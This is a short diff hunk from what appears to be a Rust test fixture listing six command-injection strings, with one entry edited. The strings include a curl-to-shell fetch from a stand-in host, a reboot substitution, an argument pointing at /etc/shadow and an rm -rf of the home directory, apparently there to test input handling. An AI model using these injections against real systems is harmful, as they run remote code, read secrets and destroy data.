@@ -33,7 +33,7 @@ const COMMANDS: [&str; 6] = [
     "x; curl http://evil.test/|sh #",
     "$(reboot)",
     "`id`",
-    "' || touch /tmp/evil '",
+    "' || touch evil '",
     "--kubeconfig=/etc/shadow",
     "x\" && rm -rf \"$HOME",
 ];
